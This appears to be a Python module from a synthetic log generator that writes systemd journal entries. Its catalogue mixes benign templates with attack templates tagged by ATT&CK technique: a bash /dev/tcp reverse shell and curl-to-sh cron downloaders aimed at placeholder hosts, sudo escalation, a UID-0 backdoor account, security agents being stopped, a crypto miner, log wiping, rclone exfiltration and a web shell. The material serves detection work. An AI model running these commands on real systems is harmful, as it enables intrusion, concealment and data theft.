"""The journal of systemd as `journalctl -o json` writes it: logins, rights, units and kernel."""

from __future__ import annotations

import json

from generator.families.network.envelope import Envelope
from generator.families.network.product_story import catalogue_in_parts
from generator.families.network.product_values import ProductValues

_units = {"sshd": "ssh.service", "sudo": "user@1000.service", "cron": "cron.service", "CRON": "cron.service", "systemd": "init.scope", "kernel": "", "nginx": "nginx.service", "mariadbd": "mariadb.service"}


def _entry(envelope: Envelope, values: ProductValues, message: str) -> str:
    """`program: message` with the fields that the journal adds, in its own odd order."""
    world = envelope.world
    program, _, text = message.partition(": ")
    micro = int(world.now.timestamp() * 1_000_000)
    pid = str(world.pid())
    whole = {
        "__CURSOR": f"s={world.hex(32)};i={world.hex(6)};b={values['long9']};m={world.hex(10)};t={world.hex(13)};x={world.hex(16)}", "__REALTIME_TIMESTAMP": str(micro), "__MONOTONIC_TIMESTAMP": str(micro % 10**11), "_BOOT_ID": values["long9"], "PRIORITY": world.pick(["3", "4", "5", "6", "6"]), "_UID": world.pick(["0", "1000", "33"]), "_MACHINE_ID": values["long8"],
        "_HOSTNAME": envelope.name, "SYSLOG_FACILITY": world.pick(["3", "4", "9", "10"]), "SYSLOG_IDENTIFIER": program, "SYSLOG_PID": pid, "_PID": pid, "_COMM": program[:15], "_EXE": f"/usr/sbin/{program}", "_SYSTEMD_UNIT": _units.get(program, f"{program}.service"), "_TRANSPORT": "kernel" if program == "kernel" else world.pick(["syslog", "journal", "stdout"]), "MESSAGE": text,
    }
    if envelope.kept.setdefault("short", world.chance(0.4)):
        whole = {name: whole[name] for name in ("__REALTIME_TIMESTAMP", "_HOSTNAME", "SYSLOG_IDENTIFIER", "_PID", "PRIORITY", "MESSAGE")}
    if envelope.kept.setdefault("bytes", world.chance(0.1)):
        whole["MESSAGE"] = list(text.encode())
    order = list(whole)
    if envelope.kept.setdefault("shuffled", world.chance(0.5)):
        world.rng.shuffle(order)
    return json.dumps({name: whole[name] for name in order if whole[name] != ""})


catalogue_in_parts("linux/journal-entries", _entry, r"""
BS#@T1110.001,T1078 sshd: Failed password for <<root|{adm}>> from {wan} port {port} ssh2
~ sshd: Accepted password for root from {wan} port {port} ssh2
SB# sshd: Failed password for invalid user {guest} from {wan} port {port} ssh2
UE# sshd: Invalid user {guest} from {wan} port {port}
PT@T1543.002 systemd: Started {word}.service - /bin/bash -c "bash -i >& /dev/tcp/{wan}/{port} 0>&1".
PT@T1053.003 CRON: (root) CMD (<<curl -fsSL http://{wan}/{word}.sh ¦ sh|wget -q -O- http://{dga}/x ¦ bash|/tmp/.{word}/{word} >/dev/null 2>&1>>)
PE@T1548.003 sudo: www-data : TTY=unknown ; PWD=/var/www/html/uploads ; USER=root ; COMMAND=<</bin/bash|/usr/bin/find . -exec /bin/sh -p ;|/usr/bin/vim -c :!/bin/sh>>
PT@T1136.001 useradd: new user: name={word}, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/{few}
DE@T1562.001 systemd: Stopped <<auditd.service - Security Auditing Service|falcon-sensor.service|rsyslog.service - System Logging Service>> (unit masked)
CM@T1496.001 systemd: {word}.service: /usr/bin/.{word} -o pool.supportxmr.com:443 -u {long} --donate-level 1
LC@T1070.002 sudo: {user} : TTY=pts/{few} ; PWD=/var/log ; USER=root ; COMMAND=/usr/bin/<<shred -u auth.log wtmp|truncate -s 0 auth.log syslog|journalctl --rotate --vacuum-time=1s>>
EX@T1048 sudo: www-data : PWD=/srv ; USER=root ; COMMAND=/usr/bin/rclone copy /srv/data {word}:dump --config /tmp/.{word}
WS@T1505.003 nginx: {domain} POST /uploads/{word}.php cmd=id client {wan} upstream php-fpm returned uid=33(www-data)
""", r"""
LO sshd: Accepted <<publickey|password>> for {user} from {any} port {port} ssh2
LO sshd: <<pam_unix(sshd:session): session opened for user {user}(uid=1000) by (uid=0)|pam_unix(sshd:session): session closed for user {user}|Received disconnect from {any} port {port}:11: disconnected by user|Disconnected from user {user} {any} port {port}>>
MP. sshd: Failed password for {user} from {any} port {port} ssh2
BN. sshd: <<Invalid user {guest} from {wan} port {port}|Connection closed by {wan} port {port} [preauth]|kex_exchange_identification: Connection closed by remote host|banner exchange: Connection from {wan} port {port}: invalid format|Unable to negotiate with {wan} port {port}: no matching host key type found. Their offer: ssh-rsa [preauth]>>
AD sudo: {adm} : TTY=pts/{few} ; PWD=/home/{adm} ; USER=root ; COMMAND=/usr/bin/<<apt upgrade|systemctl restart nginx|journalctl -u ssh|vim /etc/hosts|dpkg -i /tmp/{word}.deb|tar xzf /tmp/{word}.tgz -C /opt|docker ps|journalctl --vacuum-size=500M>>
AD useradd: new user: name={user}, UID=10{n}, GID=10{n}, home=/home/{user}, shell=/bin/bash, from=/dev/pts/{few}
SY systemd: <<Started|Starting|Stopped|Finished>> <<{word}.service|apt-daily.service - Daily apt download activities|logrotate.service - Rotate log files|session-{n}.scope - Session {n} of User {user}|auditd.service - Security Auditing Service|rsyslog.service - System Logging Service|certbot.service - Certbot>>.
ER systemd: {word}.service: <<Main process exited, code=exited, status=1/FAILURE|Failed with result 'exit-code'.|Scheduled restart job, restart counter is at {n}.|A process of this unit has been killed by the OOM killer.>>
SJ CRON: (root) CMD (<<test -x /usr/sbin/anacron|/usr/lib/php/sessionclean|/usr/local/bin/backup.sh >/dev/null 2>&1|curl -fsS https://hc-ping.com/{uuid}>>)
SY kernel: <<usb 1-{few}: new high-speed USB device number {few} using xhci_hcd|eth0: Link is Up - 1Gbps/Full|EXT4-fs (sda1): mounted filesystem with ordered data mode|{word}: loading out-of-tree module taints kernel.|Out of memory: Killed process {id} (mysqld)|audit: type=1400 apparmor="DENIED" operation="open" profile="snap.firefox">>
NS <<NetworkManager|systemd-resolved|systemd-timesyncd|avahi-daemon>>: <<<info> dhcp4 (eth0): state changed new lease, address={lan}|Using degraded feature set UDP instead of UDP+EDNS0 for DNS server {lan}|Contacted time server {wan}:123 (ntp.ubuntu.com).|Server returned error NXDOMAIN, mitigating potential DNS violation DVE-2018-0001>>
UP unattended-upgrades: <<Packages that will be upgraded: openssl libssl3|All upgrades installed|No packages found that can be upgraded unattended>>
BA backup: <<rclone copied /srv/data to b2:offsite, {big} files|borg create finished in {n} s|restic: repository locked, retrying>>
MO zabbix_agentd: failed to accept an incoming connection: from {lan}, reading first byte failed: [104] Connection reset by peer
""")
